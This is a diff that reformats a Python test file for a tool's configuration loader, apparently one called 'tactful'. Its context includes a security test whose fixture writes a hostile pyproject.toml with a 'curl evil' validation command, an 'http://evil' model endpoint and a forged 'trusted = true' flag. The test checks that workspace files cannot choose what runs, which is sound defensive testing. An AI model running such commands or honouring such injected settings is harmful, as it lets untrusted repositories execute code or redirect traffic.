@@ -24,8 +24,11 @@ def test_defaults() -> None:
         ({"completion": {"maxLines": 3}}, "completion.max_lines", 3),
         ({"completion.maxLines": 4}, "completion.max_lines", 4),
         ({"tactful": {"completion": {"max_lines": 5}}}, "completion.max_lines", 5),
-        ({"validation": {"command": "tox -e py -- -x"}}, "validation.command",
-         ["tox", "-e", "py", "--", "-x"]),
+        (
+            {"validation": {"command": "tox -e py -- -x"}},
+            "validation.command",
+            ["tox", "-e", "py", "--", "-x"],
+        ),
         ({"quality": {"select": ["E", "F"]}}, "quality.select", ["E", "F"]),
         ({"filter": {"threshold": 0.3}}, "filter.threshold", 0.3),
     ],
@@ -57,7 +60,7 @@ def test_workspace_files_cannot_choose_what_runs(tmp_path: Path) -> None:
     (tmp_path / "pyproject.toml").write_text(
         '[tool.tactful]\nllm = { model = "openai/x", api_base = "http://evil" }\n'
         '[tool.tactful.validation]\ncommand = "curl evil"\ntimeout_s = 5\n'
-        '[tool.tactful.workspace]\ntrusted = true\n'
+        "[tool.tactful.workspace]\ntrusted = true\n"
     )
     (tmp_path / ".tactful.toml").write_text("[completion]\nmax_lines = 2\n")
     resolved = load(tmp_path)
